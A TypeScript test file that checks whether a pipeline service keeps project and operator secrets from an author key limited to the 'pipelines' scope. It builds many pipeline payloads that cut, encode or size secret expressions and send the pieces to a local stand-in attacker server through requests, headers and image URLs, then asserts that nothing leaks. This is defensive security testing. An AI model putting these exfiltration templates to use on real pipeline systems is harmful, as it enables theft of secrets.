import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { removeDir, startPercept, type RunningPercept } from '../harness/percept';
import { sending } from '../harness/sending';
import { waitFor } from '../harness/wait-for';

const OF_PROJECT = 'orchard-4711-apples';
const OF_OPERATOR = 'harbour-0815-cranes';
/** A part that is long enough to be no accident. */
const PART = 5;

/** Attack 15: a key with the scope `pipelines` alone wants the secrets of its project and of the operator. */
describe('a secret is cut into pieces and sent away', () => {
  let service: RunningPercept;
  let author: string;
  let web: Server;
  /** Everything that reached the attacker's server: the answer is an echo with guesses. */
  const received: string[] = [];

  beforeAll(async () => {
    web = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk) => (body += chunk));
      request.on('end', () => {
        received.push(decodeURIComponent(request.url!), JSON.stringify(request.headers), body);
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(JSON.stringify({ guesses: [OF_PROJECT, OF_OPERATOR, `${OF_OPERATOR}-no`] }));
      });
    });
    await new Promise<void>((listening) => web.listen(0, '127.0.0.1', listening));
    const operator = { PERCEPT_SECRET_HARBOUR: OF_OPERATOR };
    service = await startPercept({
      env: { ...operator, PERCEPT_FETCH_ALLOW: '127.0.0.0/8' },
    });
    author = (await make({ name: 'author', scopes: ['pipelines'] })).key;
    const kept = { value: OF_PROJECT, hosts: ['api.example.com'] };
    expect((await send('/v2/secrets/ORCHARD', { method: 'PUT', body: kept })).status).toBe(201);
  });
  afterAll(async () => {
    await service?.kill();
    web?.close();
    if (service) removeDir(service.dataDir);
  });
  const { send, post, make } = sending(() => service);

  /** Texts that hold the secret, or what can be known of it. */
  const pieces = (name: string): string[] => [
    `\${{ secrets.${name} }}`,
    `\${{ secrets.${name}.substring(0, 8) }}`,
    `\${{ secrets.${name}.split('-')[1] }}`,
    `\${{ size(secrets.${name}) }}`,
    `\${{ secrets.${name}.startsWith('o') }}`,
    `\${{ [secrets.${name}].map(s, s.substring(3)) }}`,
    `\${{ secrets['${name}'] }}`,
  ];
  /** Steps with a text, and a step that sends what the first ones gave. */
  const ways = (piece: string, at: string): string[] => {
    const text = JSON.stringify(piece);
    const sending = `  - { id: out, uses: http.request, with: { url: "${at}", json: { got: "\${{ cut }}" } } }\n`;
    return [
      `  - { id: cut, uses: table.map, with: { rows: [{ s: ${text} }], columns: { a: "row.s.substring(0, 9)" } } }\n${sending}`,
      `  - { id: cut, uses: table.map, with: { rows: [{ s: 1 }], columns: { a: ${text} } } }\n${sending}`,
      `  - { id: cut, uses: table.filter, with: { rows: [{ s: ${text} }], where: "row.s < 'p'" } }\n${sending}`,
      `  - { id: cut, uses: text.entities, with: { text: ${text} } }\n${sending}`,
      `  - { id: cut, uses: notify, with: { title: ${text} } }\n${sending}`,
      `  - { id: cut, uses: vision.analyze, with: { image_data: ${text} } }\n${sending}`,
      `  - { id: cut, uses: vision.analyze, with: { image_url: "data:image/bmp;base64,${piece}" } }\n${sending}`,
      `  - { id: cut, uses: vision.analyze, with: { image_url: "${at}/${piece}" } }\n${sending}`,
      `  - { id: cut, uses: http.request, with: { url: "${at}/${piece}" } }\n`,
      `  - { id: cut, uses: http.request, with: { url: "${at}", headers: { a: ${text} } } }\n`,
      `  - { id: cut, uses: http.request, with: { url: "${at}", json: { a: [${text}] } } }\n`,
      `  - { id: cut, if: "size(${text}) > 5", uses: http.request, with: { url: "${at}/${piece}" } }\n`,
    ];
  };

  /** Saves and runs the pipeline. @returns everything that the author can read of it. */
  async function attack(name: string, steps: string, secrets: string): Promise<string> {
    const source = `version: 1\nname: ${name}\nsecrets: [${secrets}]\nsteps:\n${steps}outputs: [{ jsonl: out.jsonl, rows: "\${{ [cut] }}" }]\n`;
    const saved = await send(`/v2/pipelines/${name}`, { method: 'PUT', key: author, body: { source } });
    if (saved.status > 201) return JSON.stringify(saved.body);
    const started = await post(`/v2/pipelines/${name}/runs`, {}, { key: author });
    if (started.status !== 202) return JSON.stringify(started.body);
    const run = await waitFor(async () => {
      const { body } = await send(`/v2/runs/${started.body.id}`, { key: author });
      return body.ended_at !== null && body;
    });
    const { body } = await send(`/v2/runs/${run.id}/items`, { key: author });
    return JSON.stringify([run, body]);
  }

  /** Parts of the secret in what was seen; the attacker wrote none of them. */
  const partsIn = (seen: string, secret: string): string[] => {
    const bytes = Buffer.from(secret);
    // Five digits of hex are two and a half characters: the hash of a pipeline has them by chance.
    const forms = [
      [secret, PART] as const,
      [bytes.toString('base64'), PART] as const,
      [bytes.toString('hex'), 2 * PART] as const,
    ];
    const parts = forms.flatMap(([form, length]) =>
      Array.from({ length: form.length - length + 1 }, (_, at) => form.slice(at, at + length)),
    );
    return [...new Set(parts)].filter((part) => seen.includes(part));
  };

  test('no part of it reaches the attacker', async () => {
    const at = `http://127.0.0.1:${(web.address() as AddressInfo).port}`;
    const found: string[] = [];
    let tries = 0;
    for (const [name, secret] of [
      ['ORCHARD', OF_PROJECT],
      ['HARBOUR', OF_OPERATOR],
    ] as const) {
      for (const piece of pieces(name)) {
        for (const steps of ways(piece, at)) {
          const seen = await attack('steal', steps, name);
          if (partsIn(seen + received.splice(0).join(), secret).length > 0) found.push(`${name} ${steps}: ${seen.slice(0, 500)}`);
          tries++;
        }
      }
    }
    process.stdout.write(`Attack 15: ${tries} pipelines that take secrets to pieces, ${found.length} of them saw a part.\n`);
    expect(found).toEqual([]);
    expect(tries).toBeGreaterThan(100);
  });

  test('guesses of a secret in an answer are not confirmed', async () => {
    const at = `http://127.0.0.1:${(web.address() as AddressInfo).port}`;
    const seen = await attack('guess', `  - { id: cut, uses: http.request, with: { url: "${at}" } }\n`, 'ORCHARD, HARBOUR');
    expect(seen).toContain(OF_PROJECT);
    expect(seen).toContain(`${OF_OPERATOR}-no`);
    expect(seen).not.toContain('***');
  });
});
